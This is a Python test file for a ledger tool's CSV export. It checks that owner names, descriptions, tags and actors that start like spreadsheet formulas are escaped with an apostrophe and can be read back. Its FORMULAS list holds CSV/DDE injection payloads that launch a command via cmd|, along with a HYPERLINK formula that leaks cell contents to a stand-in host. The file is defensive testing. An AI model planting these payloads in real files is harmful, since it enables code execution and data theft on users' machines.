"""Strangers' texts in CSV: no spreadsheet runs them, and every one of them can be had back."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from tests.support.program import Run

FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"Paid")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "-",
    "- two stamps",
    "+44 20 7946 0000",
    "'=1+1",
    "'' @A1",
]
HARMLESS = [
    "2 = 1 + 1",
    "a@example.org",
    "'tis the season",
    "-12.50",
    "+3",
    r"\=1+1",
    "\t=1+1",
    "\r=1+1",
]


def rows(run: Run, *arguments: str) -> list[dict[str, str]]:
    out = run(*arguments, "--format", "csv").out
    return list(csv.DictReader(io.StringIO(out, newline="")))


def read_back(cell: str) -> str:
    """As `ledger help formats` says."""
    return cell[1:] if re.match(r"'+\s*[=+@\uff1d\uff0b\uff0d\uff20-]", cell) else cell


@pytest.fixture
def open_to_all(run: Run, small_books: Path) -> Path:
    """The small ledger with an account and an entry for each of the texts."""
    lines = [
        line
        for number, text in enumerate([*FORMULAS, *HARMLESS])
        for line in (
            {"command": "open", "account": f"x-{number:02}", "owner": text, "overdraft": "99"},
            {"command": "withdraw", "account": f"x-{number:02}", "amount": "12.00"},
            {
                "command": "deposit",
                "account": "acc-002",
                "amount": "1",
                "description": text,
            },
        )
    ]
    assert run("batch", "-", stdin="\n".join(map(json.dumps, lines))).status == 0
    return small_books


@pytest.mark.usefixtures("open_to_all")
@pytest.mark.parametrize(
    ("command", "column"),
    [
        ("accounts", "owner"),
        ("history acc-002", "description"),
        ("statement acc-002", "description"),
    ],
)
def test_a_text_that_begins_as_a_formula_has_an_apostrophe(
    run: Run, command: str, column: str
) -> None:
    cells = [row[column] for row in rows(run, *command.split())]
    expected = [f"'{text}" for text in FORMULAS]
    expected += [text.replace("\t", r"\t").replace("\r", r"\r") for text in HARMLESS]
    assert [cell for cell in cells if cell in expected] == expected
    assert [read_back(cell) for cell in cells if cell in expected[: len(FORMULAS)]] == FORMULAS


@pytest.mark.usefixtures("open_to_all")
def test_numbers_are_left_alone(run: Run) -> None:
    amounts = [row["amount"] for row in rows(run, "history", "x-00")]
    assert amounts == ["0.00", "-12.00"]
    assert [row["balance"] for row in rows(run, "balance", "x-00")] == ["-12.00"]


@pytest.mark.usefixtures("small_books")
def test_tags_and_reasons_are_texts_too(run: Run) -> None:
    tagged = ("--tag", "-x=1", "-m", "=1")
    assert run("deposit", "acc-002", "1", *tagged, env={"LEDGER_ACTOR": "=me"}).status == 0
    *_, row = rows(run, "history", "acc-002")
    assert (row["tags"], row["actor"], row["description"]) == ("'-x=1", "'=me", "'=1")


@pytest.mark.usefixtures("open_to_all")
@pytest.mark.parametrize("shown_as", ["plain", "json"])
def test_no_other_format_has_apostrophes(run: Run, shown_as: str) -> None:
    out = run("accounts", "--format", shown_as).out
    owners = (
        [row["owner"] for row in json.loads(out)]
        if shown_as == "json"
        else [line.split("\t")[1] for line in out.splitlines()]
    )
    assert owners[-len(HARMLESS) - len(FORMULAS) : -len(HARMLESS)] == FORMULAS
